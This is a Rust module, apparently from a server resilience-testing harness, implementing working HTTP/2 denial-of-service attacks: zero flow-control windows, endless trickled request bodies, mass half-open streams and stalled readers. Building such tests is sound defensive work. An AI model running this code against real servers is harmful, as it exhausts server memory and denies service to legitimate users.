//! Hoards: streams and responses that stay in the server's memory because the attacker makes no progress.

use std::io;
use std::time::Duration;

use bytes::Bytes;
use h2::SendStream;
use h2::client::ResponseFuture;
use tokio::task::JoinSet;

use super::ground::{AttackPace, Ground};
use crate::attack::http2::connection::{RawConnection, ReadMode};
use crate::attack::http2::session::{Http2Session, send_body};
use crate::attack::http2::{frame, requests};
use crate::attack::preload::{Preload, key};

const CHECK_INTERVAL: Duration = Duration::from_millis(100);
/// Interval between two bytes of an endless body once the windows are full.
const TRICKLE_INTERVAL: Duration = Duration::from_secs(1);
/// RFC 9113, 6.9.1.
const WINDOW_BYTES_MAX: u32 = (1 << 31) - 1;
const WINDOW_BYTES_DEFAULT: u32 = 65_535;

/// Windows attack: 12,000 responses of 60 KiB that the server may not send.
pub const WINDOWS_PRELOAD: Preload = Preload { keys: 16, value_bytes: 60 << 10 };
const WINDOWS_CONNECTIONS: usize = 4;
const WINDOWS_CALLS: u32 = 3_000;

pub async fn zero_windows(ground: Ground) {
    ground.keep(WINDOWS_CONNECTIONS, zero_windows_session).await;
}

async fn zero_windows_session(ground: Ground) -> io::Result<()> {
    let settings = [(frame::INITIAL_WINDOW_SIZE, 0)];
    let mut connection = RawConnection::open(ground.client_port(), &settings, ReadMode::Everything).await?;
    let headers = frame::call_headers(requests::RANGE);
    // Slower than the server responds, so that its limit of concurrent work does not reject the calls.
    let mut pace = AttackPace::new(3_000);
    for number in 0..WINDOWS_CALLS {
        let mut out = Vec::new();
        let body = requests::range(&key(number % WINDOWS_PRELOAD.keys), b"");
        connection.put_call(&mut out, &headers, &frame::message(&body));
        connection.send(&out).await?;
        ground.ledger.add_acts(1);
        pace.take(1).await;
    }
    hold(&connection).await
}

/// 800 incomplete bodies of 1.4 MB.
const BODY_CONNECTIONS: usize = 8;
const BODIES: usize = 100;
const BODY_BYTES: usize = 1_400_000;

pub async fn endless_bodies(ground: Ground) {
    ground.keep(BODY_CONNECTIONS, endless_bodies_session).await;
}

async fn endless_bodies_session(ground: Ground) -> io::Result<()> {
    let mut session = Http2Session::open(ground.client_port()).await?;
    let mut bodies = JoinSet::new();
    for _ in 0..BODIES {
        let (response, stream) = session.call(requests::PUT).await?;
        ground.ledger.add_acts(1);
        bodies.spawn(endless_body(response, stream));
    }
    while !session.is_closed() && !bodies.is_empty() {
        let _next = tokio::time::timeout(CHECK_INTERVAL, bodies.join_next()).await;
    }
    Err(io::ErrorKind::ConnectionReset.into())
}

/// Keeps the call open without reading its response.
async fn endless_body(_answer: ResponseFuture, mut stream: SendStream<Bytes>) -> io::Result<()> {
    let mut body = frame::message_head(BODY_BYTES + 10_000);
    body.resize(BODY_BYTES, 0);
    send_body(&mut stream, body.into(), false).await?;
    loop {
        tokio::time::sleep(TRICKLE_INTERVAL).await;
        send_body(&mut stream, Bytes::from_static(b"x"), false).await?;
    }
}

/// As many streams as a single client could open before streams had a limit, spread over enough
/// connections to stay below the limit per connection.
const HALF_OPEN_CONNECTIONS: usize = 50;
const HALF_OPEN_STREAMS: u64 = 1_000;

pub async fn half_open_streams(ground: Ground) {
    ground.keep(HALF_OPEN_CONNECTIONS, half_open_session).await;
}

async fn half_open_session(ground: Ground) -> io::Result<()> {
    let mut connection = RawConnection::open(ground.client_port(), &[], ReadMode::Everything).await?;
    let headers = frame::call_headers(requests::PUT);
    let mut out = Vec::new();
    for _ in 0..HALF_OPEN_STREAMS {
        connection.put_open_call(&mut out, &headers, &[]);
    }
    connection.send(&out).await?;
    ground.ledger.add_acts(HALF_OPEN_STREAMS);
    hold(&connection).await
}

/// Readers attack: 16 responses of 32 MiB to clients that read only as much as the socket buffers.
pub const READERS_PRELOAD: Preload = Preload { keys: 512, value_bytes: 64 << 10 };
const READERS: usize = 16;

pub async fn stopped_readers(ground: Ground) {
    ground.keep(READERS, stopped_reader_session).await;
}

async fn stopped_reader_session(ground: Ground) -> io::Result<()> {
    let settings = [(frame::INITIAL_WINDOW_SIZE, WINDOW_BYTES_MAX)];
    let mut connection = RawConnection::open(ground.client_port(), &settings, ReadMode::Nothing).await?;
    let mut out = Vec::new();
    frame::put_window_update(&mut out, 0, WINDOW_BYTES_MAX - WINDOW_BYTES_DEFAULT);
    let body = requests::range(b"attack/", b"attack0");
    connection.put_call(&mut out, &frame::call_headers(requests::RANGE), &frame::message(&body));
    connection.send(&out).await?;
    ground.ledger.add_acts(1);
    hold(&connection).await
}

/// Waits until the server closes the connection.
async fn hold(connection: &RawConnection) -> io::Result<()> {
    while !connection.is_closed() {
        tokio::time::sleep(CHECK_INTERVAL).await;
    }
    Err(io::ErrorKind::ConnectionReset.into())
}
